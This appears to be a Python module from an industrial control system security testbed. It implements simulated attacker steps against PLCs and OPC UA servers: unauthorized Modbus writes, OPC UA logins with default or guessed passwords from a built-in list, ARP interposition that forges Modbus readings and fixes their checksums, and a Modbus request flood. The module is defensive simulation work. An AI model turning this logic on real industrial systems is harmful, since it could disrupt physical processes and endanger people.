"""What the steps of a scenario do: small typed functions that send real bytes from the attacker's host.

An action knows what an attacker who has studied the site would know (addresses, tags, scales) and nothing about which
controls are in force; it finds out by trying.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from devices.modbus import ModbusClient, Refusal
from devices.opcua import UaClient, make_certificate
from devices.opcua_model import SIGN_AND_ENCRYPT
from devices.poller import checksum, checksum_address
from devices.registers import Table
from devices.world import World
from scenarios.model import Flood, ModbusWrite, OpcUaWrite, Scenario, Spoof, Step
from testbed import site as sites
from testbed.errors import OtlabError
from testbed.network import Host, Packet
from testbed.site import Site

#: What the ``guess`` credentials try: user names seen on such systems with the most common passwords (assumption).
GUESSES = tuple(
    (user, password)
    for user in ("operator", "admin", "engineer")
    for password in ("password", "123456", "admin", "scada", "1234", user)
)


@dataclass(slots=True)
class AttackState:
    """How far the attack has come; what was reached and what was refused."""

    first_action: float | None = None
    succeeded: int = 0
    refused: int = 0


@dataclass(slots=True)
class Attack:
    """One scenario running in one world."""

    world: World
    scenario: Scenario
    host: Host
    state: AttackState = field(default_factory=AttackState)

    def note(self, step: Step, outcome: str, **data: object) -> None:
        """Record what a step did."""
        if outcome == "done":
            self.state.succeeded += 1
        elif outcome in ("refused", "failed"):
            self.state.refused += 1
        self.world.trace.record(
            "attack.step",
            self.host.name,
            technique=step.technique,
            action=step.action,
            outcome=outcome,
            **data,
        )


def place_attacker(world: World, scenario: Scenario) -> Attack:
    """Put the attacker's host into the world; OtlabError if the site has no such zone or asset."""
    attacker = scenario.attacker
    if attacker.at is not None:
        if attacker.at not in world.network.hosts:
            raise OtlabError(
                f"scenario {scenario.name!r} starts at asset {attacker.at!r}, which the site lacks"
            )
        return Attack(world, scenario, world.network.hosts[attacker.at])
    zone = world.network.zones.get(attacker.zone or "")
    if zone is None:
        raise OtlabError(f"scenario {scenario.name!r} starts in zone {attacker.zone!r}, which the site lacks")
    taken = {host.address for host in zone.hosts} | {zone.gateway.address}
    address = next(str(a) for a in reversed(list(zone.subnet.hosts())) if str(a) not in taken)
    return Attack(world, scenario, world.network.host("rogue1", zone.name, address))


def check_against(site: Site, scenario: Scenario) -> None:
    """Raise OtlabError if the site lacks something that a step names."""
    controllers = site.controllers()
    for number, step in enumerate(scenario.steps, 1):
        where = f"scenario {scenario.name!r}, step {number}"
        if isinstance(step, OpcUaWrite):
            server = site.assets.get(step.server)
            if not isinstance(server, sites.OpcUaServer):
                raise OtlabError(f"{where}: site {site.name!r} has no OPC UA server {step.server!r}")
            continue
        if step.plc not in controllers:
            raise OtlabError(f"{where}: site {site.name!r} has no PLC {step.plc!r}")
        tags = controllers[step.plc].tags
        for tag in getattr(step, "values", {}):
            if tag not in tags:
                raise OtlabError(f"{where}: {step.plc} has no tag {tag!r}")


async def carry_out(attack: Attack) -> None:
    """Run the scenario's steps one after another."""
    await asyncio.sleep(attack.scenario.start)
    attack.state.first_action = attack.world.loop.time()
    for step in attack.scenario.steps:
        await asyncio.sleep(step.after)
        match step:
            case ModbusWrite():
                await modbus_write(attack, step)
            case OpcUaWrite():
                await opcua_write(attack, step)
            case Spoof():
                await spoof(attack, step)
            case Flood():
                await flood(attack, step)


async def _repeat(attack: Attack, every: float, lasting: float, once: Callable[[], Awaitable[None]]) -> None:
    end = attack.world.loop.time() + lasting
    while True:
        await once()
        if attack.world.loop.time() + every > end:
            return
        await asyncio.sleep(every)


async def modbus_write(attack: Attack, step: ModbusWrite) -> None:
    """T0855: write, whoever the PLC thinks is writing."""
    asset = attack.world.site.controllers()[step.plc]
    client = ModbusClient(asset.address, asset.port, unit=asset.unit_id)

    async def once() -> None:
        for name, value in step.values.items():
            tag = asset.tags[name]
            try:
                answer = await client.write(Table(tag.table), tag.address, tag.encode(value))
            except (TimeoutError, ConnectionError) as error:
                attack.note(step, "failed", target=step.plc, tag=name, reason=type(error).__name__)
                return
            if isinstance(answer, Refusal):
                attack.note(step, "refused", target=step.plc, tag=name, reason=str(answer))
                return
        attack.note(step, "done", target=step.plc)

    await _repeat(attack, step.every, step.lasting, once)
    client.close()


async def opcua_write(attack: Attack, step: OpcUaWrite) -> None:
    """T0836 through T0859 or T0812: log in with what works, then change parameters."""
    server = attack.world.site.assets[step.server]
    assert isinstance(server, sites.OpcUaServer)
    url = f"opc.tcp://{server.address}:{server.port}"
    client, security = None, None
    papers = make_certificate("visitor", "urn:visitor", attack.world.stream("attacker's certificate"))
    for kind in step.credentials:
        for user, password in _credentials(attack, kind):
            tried = UaClient(
                url, user, password, security, *(papers if security is not None else (None, None))
            )
            try:
                refusal = await tried.connect()
                reason = refusal.status if refusal is not None else None
            except OSError as error:
                reason = type(error).__name__
            if reason is not None:
                attack.note(step, "refused", target=step.server, credentials=kind, reason=reason)
                if reason.startswith("BadSecurity"):
                    # With a certificate of the attacker's own making, which some servers take.
                    security = SIGN_AND_ENCRYPT
                await asyncio.sleep(1.0)  # a tool that tries passwords waits a little (assumption)
                continue
            client = tried
            attack.note(step, "session", target=step.server, credentials=kind)
            break
        if client is not None:
            break
    if client is None:
        return
    session = client

    async def once() -> None:
        for name, value in step.values.items():
            try:
                refused = await session.write(name, value)
            except OSError as error:
                attack.note(step, "failed", target=step.server, tag=name, reason=type(error).__name__)
                return
            if refused is not None:
                attack.note(step, "refused", target=step.server, tag=name, reason=refused.status)
            else:
                attack.note(step, "done", target=step.server, tag=name)

    await _repeat(attack, step.every, step.lasting, once)
    await session.disconnect()


def _credentials(attack: Attack, kind: str) -> list[tuple[str | None, str | None]]:
    if kind == "anonymous":
        return [(None, None)]
    if kind == "default":
        return [("operator", "operator"), ("admin", "admin")]
    if kind == "guess":
        return list(GUESSES)
    # "stolen": what a phished operator types, which is a password and nothing that a token shows
    return [(operator.name, operator.password) for operator in attack.world.operators.values()]


async def spoof(attack: Attack, step: Spoof) -> None:
    """T0856 by T0830: forge readings in the answers of one PLC to one reader."""
    world = attack.world
    plc, reader = world.network.hosts[step.plc], world.network.hosts[step.reader]
    forger = Forger(world.site.controllers()[step.plc], step, plc.address)
    placed = attack.host.interpose(reader.address, plc.address, forger)
    if not placed:
        attack.note(step, "refused", target=step.reader, reason="ARP replies refused")
        return
    attack.note(step, "interposed", target=step.reader)
    end = world.loop.time() + step.lasting
    told = 0
    while world.loop.time() < end:
        await asyncio.sleep(5.0)
        if forger.forged > told:
            if not told:
                attack.note(step, "done", target=step.reader, tag=",".join(step.values))
            told = forger.forged
        elif not told and forger.unreadable:
            attack.note(step, "refused", target=step.reader, reason="traffic cannot be read")
            break
    attack.host.withdraw(reader.address, plc.address)
    attack.note(step, "withdrawn", target=step.reader)


class Forger:
    """Changes register values in Modbus answers that pass; remembers requests to know what an answer answers."""

    def __init__(self, asset: sites.Controller, step: Spoof, plc_address: str) -> None:
        self.plc_address = plc_address
        self.fix_checksum = step.fix_checksum
        self.checksum_at = checksum_address(asset.tags.values())
        self.values = {
            (Table(asset.tags[name].table), asset.tags[name].address): asset.tags[name].encode(value)
            for name, value in step.values.items()
        }
        self.asked: dict[tuple[int, int], tuple[int, int, int]] = {}
        self.forged = 0
        self.unreadable = 0

    def __call__(self, packet: Packet) -> bytes:
        payload = bytearray(packet.payload)
        at = 0
        while at + 8 <= len(payload):
            if payload[at + 2 : at + 4] != b"\0\0":
                self.unreadable += 1
                break
            size = 6 + int.from_bytes(payload[at + 4 : at + 6], "big")
            if at + size > len(payload):
                break
            self._frame(packet, payload, at, size)
            at += size
        return bytes(payload)

    def _frame(self, packet: Packet, payload: bytearray, at: int, size: int) -> None:
        transaction = int.from_bytes(payload[at : at + 2], "big")
        function = payload[at + 7]
        if packet.target == self.plc_address:
            if function in (3, 4) and size >= 12:
                address = int.from_bytes(payload[at + 8 : at + 10], "big")
                count = int.from_bytes(payload[at + 10 : at + 12], "big")
                self.asked[(packet.source_port, transaction)] = (function, address, count)
            return
        asked = self.asked.pop((packet.target_port, transaction), None)
        if asked is None or function != asked[0] or size != 9 + 2 * asked[2]:
            return
        _, start, count = asked
        table = Table.HOLDING if function == 3 else Table.INPUT
        body = at + 9
        changed = False
        for (where, address), words in self.values.items():
            if where is table and start <= address < start + count:
                for offset, word in enumerate(words):
                    place = body + 2 * (address + offset - start)
                    payload[place : place + 2] = word.to_bytes(2, "big")
                changed = True
        if not changed:
            return
        self.forged += 1
        if self.fix_checksum and table is Table.INPUT and start == 0 and count - 1 == self.checksum_at:
            registers = [
                int.from_bytes(payload[body + 2 * i : body + 2 * i + 2], "big") for i in range(count - 1)
            ]
            payload[body + 2 * (count - 1) : body + 2 * count] = checksum(registers).to_bytes(2, "big")


#: A flood sends its requests in bursts so many seconds apart, several in one segment, as flooding tools do.
BURST = 0.02
#: How often a flood looks whether it still gets through (s).
LOOK = 10.0


class _Hose(asyncio.Protocol):
    """One connection of a flood: counts the bytes that come back and never waits for them."""

    def __init__(self) -> None:
        self.transport: asyncio.Transport | None = None
        self.returned = 0

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport

    def connection_lost(self, exc: Exception | None) -> None:
        self.transport = None

    def data_received(self, data: bytes) -> None:
        self.returned += len(data)


async def flood(attack: Attack, step: Flood) -> None:
    """T0814: more requests than the PLC's processor has time for."""
    asset = attack.world.site.controllers()[step.plc]
    loop = attack.world.loop
    end = loop.time() + step.lasting
    # Read one input register: transaction, protocol 0, six more bytes, unit, function 4, address 0, count 1.
    request = bytes((0, 1, 0, 0, 0, 6, asset.unit_id, 4, 0, 0, 0, 1))
    each = step.rate * BURST / step.connections
    hoses: list[_Hose] = []

    async def one(number: int) -> None:
        await asyncio.sleep(number * BURST / step.connections)
        owed = 0.0
        while loop.time() < end:
            try:
                _, hose = await loop.create_connection(_Hose, asset.address, asset.port)
            except OSError:
                await asyncio.sleep(1.0)
                continue
            assert isinstance(hose, _Hose)
            hoses.append(hose)
            while hose.transport is not None and loop.time() < end:
                owed += each
                hose.transport.write(request * int(owed))
                owed -= int(owed)
                await asyncio.sleep(BURST)
            if hose.transport is not None:
                hose.transport.abort()

    async def look() -> None:
        before = 0
        while loop.time() + LOOK <= end:
            await asyncio.sleep(LOOK)
            returned = sum(hose.returned for hose in hoses)
            attack.note(step, "done" if returned > before else "refused", target=step.plc)
            before = returned

    attack.note(step, "flooding", target=step.plc, rate=step.rate)
    await asyncio.gather(look(), *(one(number) for number in range(step.connections)))
